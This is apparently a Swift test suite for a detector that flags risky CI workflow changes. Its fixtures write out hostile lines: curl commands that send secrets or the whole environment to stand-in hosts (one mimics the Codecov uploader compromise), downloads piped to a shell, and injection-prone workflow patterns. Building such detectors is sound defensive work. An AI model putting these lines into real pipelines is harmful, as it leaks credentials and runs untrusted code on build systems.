import Testing

@testable import CustodyCore

struct CIWorkflowRiskDetectorTests {
    let detector = CIWorkflowRiskDetector()
    let path = ".github/workflows/ci.yml"

    static let pinnedWorkflow = """
        name: CI
        on:
          push:
            branches: [main]
          pull_request:
        permissions:
          contents: read
        jobs:
          test:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
              - uses: actions/setup-node@39370e3970a6d050c480ffad4ff0ed4d3fdee5af # v4.1.0
                with:
                  node-version: 20
              - run: npm ci
              - run: npm test
              - name: Comment
                env:
                  TITLE: ${{ github.event.pull_request.title }}
                run: echo "Testing $TITLE"

        """

    @Test func pinnedWorkflowWithEnvironmentIndirectionStaysQuiet() {
        #expect(BuildDetectorFixtures.scan(detector, path: path, old: nil, new: Self.pinnedWorkflow).isEmpty)
    }

    @Test func pullRequestTargetCheckingOutTheHeadWithSecrets() throws {
        let workflow = """
            name: Changed files
            on:
              pull_request_target:
                types: [opened, synchronize]
            jobs:
              changed:
                runs-on: ubuntu-latest
                steps:
                  - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
                    with:
                      ref: ${{ github.event.pull_request.head.sha }}
                  - run: ./scripts/list-changes.sh
                    env:
                      DEPLOY_TOKEN: ${{ secrets.DEPLOY_TOKEN }}

            """
        let findings = BuildDetectorFixtures.scan(detector, path: ".github/workflows/changed.yml", old: nil, new: workflow)
        let finding = try #require(findings.first { $0.ruleID == "CUST-CI-001" })
        #expect(finding.severity == .critical)
        #expect(finding.category == .ciWorkflowRisk)
        // The same trigger without the head checkout is the safe pattern.
        let safe = workflow.replacingOnce("        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n", with: "")
        #expect(safe != workflow)
        #expect(BuildDetectorFixtures.scan(detector, path: ".github/workflows/changed.yml", old: nil, new: safe).filter { $0.ruleID == "CUST-CI-001" }.isEmpty)
    }

    @Test func unpinnedThirdPartyActionIsLowAndFirstPartyInfo() throws {
        let workflow = Self.pinnedWorkflow.replacingOnce(
            "      - run: npm ci\n",
            with: "      - uses: tj-actions/changed-files@v45\n      - uses: actions/cache@v4\n      - run: npm ci\n")
        let findings = BuildDetectorFixtures.scan(detector, path: path, old: Self.pinnedWorkflow, new: workflow)
        #expect(findings.count == 2)
        #expect(findings.first { $0.excerpt.contains("tj-actions") }?.severity == .low)
        #expect(findings.first { $0.excerpt.contains("actions/cache") }?.severity == .info)
    }

    @Test func secretsSentToAServer() throws {
        let workflow = Self.pinnedWorkflow + """
                  - run: curl -s -X POST -d "t=${{ secrets.NPM_TOKEN }}" https://collector.example.net/t
                  - run: echo '${{ toJSON(secrets) }}' > /tmp/s.json

            """
        let findings = BuildDetectorFixtures.scan(detector, path: path, old: Self.pinnedWorkflow, new: workflow)
        #expect(findings.filter { $0.ruleID == "CUST-CI-002" }.count == 2)
    }

    @Test func untrustedTextPastedIntoScripts() throws {
        let workflow = Self.pinnedWorkflow + """
                  - name: Greet
                    run: |
                      echo "Thanks for the issue"
                      echo "${{ github.event.issue.title }}" >> notes.txt
                  - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea
                    with:
                      script: |
                        console.log("${{ github.head_ref }}")

            """
        let findings = BuildDetectorFixtures.scan(detector, path: path, old: Self.pinnedWorkflow, new: workflow)
        let injections = findings.filter { $0.ruleID == "CUST-CI-005" }
        #expect(injections.count == 2)
        #expect(injections.allSatisfy { $0.severity == .high })
    }

    @Test func downloadsPipedToAShell() {
        let workflow = Self.pinnedWorkflow + """
                  - run: |
                      curl -fsSL https://get.example.dev/install.sh | bash
                      curl -fsSL https://example.dev/sums.txt | sha256sum -c

            """
        let findings = BuildDetectorFixtures.scan(detector, path: path, old: Self.pinnedWorkflow, new: workflow)
        #expect(findings.filter { $0.ruleID == "CUST-CI-004" }.count == 1)
    }

    @Test func codecovStyleUploaderSendsTheEnvironment() throws {
        let before = "#!/usr/bin/env bash\n# Upload coverage reports\nurl=\"https://codecov.example.io\"\nupload() {\n  curl -sX POST \"$url/upload/v4\" --data-binary @coverage.xml\n}\n"
        let after = before.replacingOnce(
            "upload() {\n",
            with: "upload() {\n  curl -sm 0.5 -d \"$(git remote -v)<<<<<< ENV $(env)\" http://198.51.100.23/upload/v2 || true\n")
        let findings = BuildDetectorFixtures.scan(detector, path: "scripts/codecov-uploader.sh", old: before, new: after)
        let finding = try #require(findings.first { $0.ruleID == "CUST-CI-006" })
        #expect(finding.severity == .critical)
        #expect(finding.startLine == 5)
        // The original upload line alone is quiet.
        #expect(BuildDetectorFixtures.scan(detector, path: "scripts/codecov-uploader.sh", old: nil, new: before).isEmpty)
    }

    @Test func gitlabScriptsAreScriptsToo() {
        let text = "stages: [test]\ntest:\n  script:\n    - wget -qO- https://203.0.113.80/x.sh | sh\n"
        let findings = BuildDetectorFixtures.scan(detector, path: ".gitlab-ci.yml", old: nil, new: text)
        #expect(findings.contains { $0.ruleID == "CUST-CI-004" })
    }

    @Test(arguments: [
        ("actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683", true),
        ("actions/checkout@v4", false),
        ("owner/repo/path@main", false),
        ("owner/repo@11BD71901BBE5B1630CEEA73D27597364C9AF683", false),
    ])
    func pinning(_ reference: String, _ pinned: Bool) {
        #expect(CIWorkflowRiskDetector.isPinned(reference) == pinned)
    }
}
